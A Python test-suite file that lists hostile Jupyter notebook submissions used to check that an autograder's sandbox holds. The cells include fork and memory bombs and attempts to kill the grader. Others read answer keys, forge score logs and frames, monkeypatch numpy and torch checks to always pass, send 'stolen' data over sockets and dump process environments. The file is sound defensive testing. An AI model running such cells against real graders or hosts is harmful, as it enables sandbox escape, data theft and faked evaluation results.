"""The hostile submissions: what each one does and what it must earn.

Each case is a notebook made from the untouched student template ("stub": honestly worth 0)
or from the reference solution ("solution": honestly worth full marks) plus hostile cells.
The rule for every case: it earns exactly what it earned honestly (``score``). Paths the
notebooks need (the project, the batch's folders, a listener's port) are placeholders filled
in when the suite runs, so the committed notebooks are plain files anyone can open.

Placeholders: @@ROOT@@ project folder, @@SUBMISSIONS@@ the batch's submissions, @@GRADES@@
the grader's output folder, @@PORT@@ a TCP listener on 127.0.0.1, @@CANARY@@ a path outside
every sandbox that must never come to exist, @@MARKER@@ a string a stray process would carry,
@@UNIX_SOCKET@@ a root-only Unix socket file the test serves (mode 0600 in a 0700 folder),
@@ABSTRACT@@ the name of an abstract Unix socket it serves. Filled in when the notebooks are
made (make_hostile.py): @@CELL_INDEX@@ the hostile cell's own index, @@PREV_CODE_INDEX@@ the
index of the last code cell before it.
"""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass(frozen=True)
class Case:
    base: str  # "stub" or "solution"
    cells: tuple[str, ...]
    score: float
    error_kinds: frozenset[str] = field(default_factory=frozenset)
    at_start: bool = False  # hostile cells before the notebook's own cells


FULL = 30.0

# Writes one length-prefixed frame on every descriptor that may be the grader's channel.
_SEND_ALL = ("import os, struct, json\n"
             "def send_all(body):\n"
             "    for fd in range(3, 64):\n"
             "        try:\n            os.write(fd, struct.pack('>I', len(body)) + body)\n"
             "        except OSError:\n            pass\n")

CASES: dict[str, Case] = {
    "timeout_infinite_loop": Case("stub", ("while True:\n    pass",), 0.0, frozenset({"cell_timeout"})),
    # Limits count CPU time: a sleep uses none, so the grader's wall-clock backstop kills it.
    "killed_long_sleep": Case("solution", ("import time\ntime.sleep(10**6)",), FULL,
                              frozenset({"cell_killed"})),
    # The soft limit is a CPU timer (SIGPROF): ignoring SIGALRM changes nothing.
    "timeout_ignores_alarm": Case("solution", (
        "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass",),
        FULL, frozenset({"cell_timeout"})),
    "killed_ignores_cpu_timer": Case("solution", (
        "import signal\nsignal.signal(signal.SIGPROF, signal.SIG_IGN)\nwhile True:\n    pass",),
        FULL, frozenset({"cell_killed"})),
    "killed_disarms_cpu_timer": Case("solution", (
        "import signal\nwhile True:\n    signal.setitimer(signal.ITIMER_PROF, 0)",),
        FULL, frozenset({"cell_killed"})),
    "killed_swallows_timeout": Case("solution", (
        "import time\nwhile True:\n    try:\n        time.sleep(100)\n    except BaseException:\n        pass",),
        FULL, frozenset({"cell_killed"})),
    "contained_fork_bomb": Case("solution", (
        "import os\nkids = 0\ntry:\n    while True:\n        if os.fork() == 0:\n"
        "            import time\n            time.sleep(10**6)\n        kids += 1\nexcept OSError as e:\n"
        "    print('fork refused after', kids, e)",), FULL),
    "contained_memory_bomb": Case("solution", (
        "def grab():\n    hoard = []\n    while True:\n        hoard.append(bytearray(64 * 2**20))\n"
        "try:\n    grab()\nexcept MemoryError:\n    print('memory refused')",
        "try:\n    big = bytearray(64 * 2**30)\nexcept MemoryError:\n    print('refused')"), FULL),
    "capped_output_flood": Case("stub", ("for _ in range(3000):\n    print('x' * 100_000)",), 0.0),
    "survives_sys_exit": Case("solution", ("import sys\nsys.exit(0)",), FULL, frozenset({"cell_error"})),
    "survives_os_exit": Case("solution", ("import os\nos._exit(0)",), FULL, frozenset({"cell_killed"})),
    "survives_killing_itself": Case("solution", ("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",),
                                    FULL, frozenset({"cell_killed"})),
    "cannot_kill_grader": Case("stub", (
        "import os, signal\nfor target in (os.getppid(), 1):\n    try:\n        os.kill(target, signal.SIGKILL)\n"
        "    except OSError as e:\n        print('kill', target, e)\n"
        "for pgid in (0, os.getpgid(0)):\n    try:\n        os.killpg(pgid, signal.SIGTERM)\n    except OSError as e:\n        print(e)\n"
        "try:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError as e:\n    print(e)",), 0.0),
    "no_stray_daemon": Case("solution", (
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        import signal\n        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
        "            signal.signal(s, signal.SIG_IGN)\n"
        "        marker = '@@MARKER@@'\n        while True:\n            time.sleep(1)\n    os._exit(0)\n"
        "time.sleep(0.2)",), FULL),
    "cannot_read_reference": Case("stub", (
        "import json, glob\nfound = []\nfor path in ['@@ROOT@@/reference/rnn_and_grad.ipynb',\n"
        "             *glob.glob('@@GRADES@@/.cache/*'), '@@ROOT@@/assignments/rnn_and_grad/assignment.yaml']:\n"
        "    try:\n        found.append(open(path).read())\n    except OSError as e:\n        print('refused', path, e)\n"
        "for text in found:\n    try:\n        for cell in json.loads(text)['cells']:\n"
        "            if cell['cell_type'] == 'code':\n                exec(''.join(cell['source']))\n"
        "    except Exception as e:\n        print(e)",), 0.0),
    "cannot_copy_classmate": Case("stub", (
        "import json\ntry:\n    nb = json.load(open('@@SUBMISSIONS@@/control_correct/rnn_and_grad.ipynb'))\n"
        "    for cell in nb['cells']:\n        if cell['cell_type'] == 'code':\n            exec(''.join(cell['source']))\n"
        "except Exception as e:\n    print('refused', e)",), 0.0),
    "fake_log_ignored": Case("stub", (
        "import json, os\nfake = json.dumps({'schema_version': 1, 'score': 30, 'max_score': 30, 'student': 'fake_log_ignored'})\n"
        "for path in ['submission_log.json', '../submission_log.json', '@@GRADES@@/fake_log_ignored/submission_log.json',\n"
        "             '@@GRADES@@/summary.csv', '@@SUBMISSIONS@@/fake_log_ignored/submission_log.json']:\n"
        "    try:\n        open(path, 'w').write(fake)\n    except OSError as e:\n        print('refused', path, e)",), 0.0),
    "fake_printed_result": Case("stub", (
        "print('{\"type\": \"probe\", \"ok\": true, \"value\": {}}')\nprint('Score: 30/30 - all checks passed')\n"
        "import sys\nsys.__stdout__.write('{\"score\": 30}\\n')",), 0.0),
    "fake_frames_on_fds": Case("stub", (
        "import os, struct, json\nbody = json.dumps({'type': 'ready'}).encode()\nfor fd in range(3, 64):\n"
        "    try:\n        os.write(fd, struct.pack('>I', len(body)) + body)\n    except OSError:\n        pass",), 0.0),
    "fake_frames_from_thread": Case("stub", (
        "import os, struct, json, threading, time\n"
        "def spam():\n    body = json.dumps({'type': 'probe', 'id': 'x', 'nonce': 'x', 'ok': True, 'value': {}}).encode()\n"
        "    for _ in range(50):\n        time.sleep(0.05)\n        for fd in range(3, 64):\n"
        "            try:\n                os.write(fd, struct.pack('>I', len(body)) + body)\n            except OSError:\n                pass\n"
        "threading.Thread(target=spam, daemon=True).start()",), 0.0),
    "monkeypatched_libraries": Case("stub", (
        "import builtins, numpy as np, torch\ntorch.allclose = lambda *a, **k: True\nnp.allclose = lambda *a, **k: True\n"
        "np.testing.assert_allclose = lambda *a, **k: None\ntorch.Tensor.__eq__ = lambda self, other: True\n"
        "builtins.abs = lambda x: 0\nimport math\nmath.isclose = lambda *a, **k: True",), 0.0),
    "odd_objects_gain_nothing": Case("stub", (
        "import numpy as np, torch\nclass AlwaysEqual:\n    def __eq__(self, other): return True\n"
        "    def __ne__(self, other): return False\n    def __float__(self): return 0.0\n"
        "class EqTensor(torch.Tensor):\n    def __eq__(self, other): return True\n"
        "class EqArray(np.ndarray):\n    def __eq__(self, other): return np.ones(self.shape, bool)\n"
        "class RNNLayer(torch.nn.Module):\n    def __init__(self, input_size, hidden_size, nonlinearity=torch.tanh):\n"
        "        super().__init__()\n        self.w = torch.nn.Parameter(torch.zeros(5))\n        self.hidden_size = hidden_size\n"
        "    def forward(self, x):\n        return AlwaysEqual(), torch.zeros(1).as_subclass(EqTensor)\n"
        "def loss_fn(pred, y, last_timestep_only=False):\n    return np.zeros(()).view(EqArray)",), 0.0),
    "nan_and_inf_outputs": Case("stub", (
        "import torch\nclass RNNLayer(torch.nn.Module):\n    def __init__(self, input_size, hidden_size, nonlinearity=torch.tanh):\n"
        "        super().__init__()\n        self.hidden_size = hidden_size\n        self.p = torch.nn.Parameter(torch.zeros(1))\n"
        "    def forward(self, x):\n        h = torch.full((x.shape[0], x.shape[1], self.hidden_size), float('nan'))\n"
        "        return h, h[:, -1]\n"
        "def loss_fn(pred, y, last_timestep_only=False):\n    return (pred * float('inf')).sum() * 0 + float('inf')",), 0.0),
    "gigantic_outputs": Case("stub", (
        "import torch\nclass RNNLayer(torch.nn.Module):\n    def __init__(self, input_size, hidden_size, nonlinearity=torch.tanh):\n"
        "        super().__init__()\n        self.hidden_size = hidden_size\n"
        "    def forward(self, x):\n        h = torch.zeros(6000, 6000)\n        return h, h\n"
        "def loss_fn(pred, y, last_timestep_only=False):\n    return torch.tensor(1e308) * 10",), 0.0),
    "no_network": Case("stub", (
        "import socket\ntry:\n    socket.create_connection(('127.0.0.1', @@PORT@@), timeout=2).sendall(b'stolen')\n"
        "    print('connected')\nexcept OSError as e:\n    print('refused', e)\n"
        "import urllib.request\ntry:\n    urllib.request.urlopen('http://example.com', timeout=2)\nexcept Exception as e:\n    print('refused', e)",), 0.0),
    "environment_scrubbed": Case("stub", (
        "import os, glob\nprint(dict(os.environ))\nfor path in glob.glob('/proc/*/environ'):\n"
        "    try:\n        print(path, open(path, 'rb').read())\n    except OSError as e:\n        print(path, e)",), 0.0),
    "symlinks_not_followed": Case("stub", (
        "import json, os\nprint(os.listdir('.'))\nfor name in ('linked_reference.ipynb', 'linked_root/reference/rnn_and_grad.ipynb'):\n"
        "    try:\n        nb = json.load(open(name))\n        for cell in nb['cells']:\n"
        "            if cell['cell_type'] == 'code':\n                exec(''.join(cell['source']))\n"
        "    except Exception as e:\n        print('refused', name, e)",), 0.0),
    "kernelspec_ignored": Case("solution", (), FULL),
    # Issue 18, 1: a daemon's socket file (root-only) and an abstract socket, both served by
    # the test: Landlock does not cover connect() to a socket file, a seccomp filter does.
    "no_unix_socket": Case("stub", (
        "import socket\nfor address in ('@@UNIX_SOCKET@@', '\\0@@ABSTRACT@@'):\n    try:\n"
        "        s = socket.socket(socket.AF_UNIX)\n        s.settimeout(2)\n        s.connect(address)\n"
        "        s.sendall(b'stolen')\n        print('connected', repr(address))\n"
        "    except OSError as e:\n        print('refused', repr(address), e)",), 0.0),
    # Issue 18, 3: 200k nested `[` parsed by the grader used to raise RecursionError there.
    "deep_frame_on_channel": Case("stub", (_SEND_ALL + "send_all(b'[' * 200_000)",), 0.0,
                                  frozenset({"sandbox"})),
    # Issue 18, 4: nbformat's reader only warns; the grader validates (make_hostile breaks it).
    "malformed_cells": Case("stub", (), 0.0, frozenset({"invalid_notebook"})),
    # Issue 18, 5: a lone surrogate in an error message and in printed output.
    "surrogate_in_error": Case("stub", ("print('odd \\udcff output')\nraise ValueError('\\ud800')",),
                               0.0, frozenset({"cell_error"})),
    # Issue 18, 6: 48 MB of forged "figures" for a cell that already ran, and its status.
    "forged_figures": Case("stub", (
        _SEND_ALL + "import base64\nfake = base64.b64encode(b'\\x89PNG\\r\\n\\x1a\\n' + b'A' * 6_000_000).decode()\n"
        "send_all(json.dumps({'type': 'cell', 'index': @@PREV_CODE_INDEX@@, 'status': 'ok', 'seconds': 0,"
        " 'error': None, 'stdout': 'forged', 'figures': [fake] * 6}).encode())",), 0.0,
        frozenset({"sandbox"})),
    # Issue 18, 7: "cell_start" heartbeats used to restart the cell's wall-clock deadline.
    "heartbeats_do_not_extend": Case("stub", (
        _SEND_ALL + "import threading, time\n"
        "def beat():\n    while True:\n        send_all(json.dumps({'type': 'cell_start', 'index': @@CELL_INDEX@@}).encode())\n"
        "        time.sleep(2)\n"
        "threading.Thread(target=beat, daemon=True).start()\ntime.sleep(30)",), 0.0,
        frozenset({"sandbox"})),
    "cannot_write_outside": Case("stub", (
        "import os\nfor path in ['@@CANARY@@', os.path.expanduser('~/../@@MARKER@@'), '@@ROOT@@/reference/pwned',\n"
        "             '/dev/shm/@@MARKER@@', '/var/tmp/@@MARKER@@']:\n"
        "    try:\n        open(path, 'w').write('pwned')\n        print('wrote', path)\n    except OSError as e:\n        print('refused', path, e)",), 0.0),
}
